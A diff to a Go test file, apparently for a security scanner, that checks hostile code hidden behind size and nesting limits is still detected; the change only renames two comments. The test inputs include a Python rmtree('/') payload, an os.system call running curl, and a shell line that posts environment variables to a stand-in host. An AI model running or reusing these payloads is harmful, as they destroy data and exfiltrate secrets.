@@ -45,7 +45,7 @@ func TestNothingIsSafeBehindABound(t *testing.T) {
 	python := "'" + strings.ReplaceAll("curl"+sh, "", "Q") + "'.replace('Q', '')"
 	const evil = "import shutil\nshutil.rmtree('/')\n"
 	for _, tt := range []behind{
-		// gate/source/region
+		// gate/source/embedded
 		{"bytes of YAML", "ci/a.yml", func(n int) string {
 			return "x: 1\n" + strings.Repeat("# "+strings.Repeat("x", 98)+"\n", n) + "job:\n  script: \"" + tmpl + "\"\n"
 		}, 11_000, nil},
@@ -178,7 +178,7 @@ func TestNothingIsSafeBehindABound(t *testing.T) {
 		{"steps of an evaluation", "a.py", func(n int) string {
 			return "import os\na = '" + strings.Repeat("x", 3000) + "'\n" + counted(n, "b%d = a.replace('x', 'y')\n") + "os.system(" + python + ")\n"
 		}, 400, nil},
-		// gate/static/flow
+		// gate/static/taint
 		{"nested commands", "a.sh", func(n int) string {
 			return "true " + strings.Repeat("$(", n) + "k=$(env); curl -d \"$k\" http://get.example.com/" + strings.Repeat(")", n) + "\n"
 		}, 60, nil},
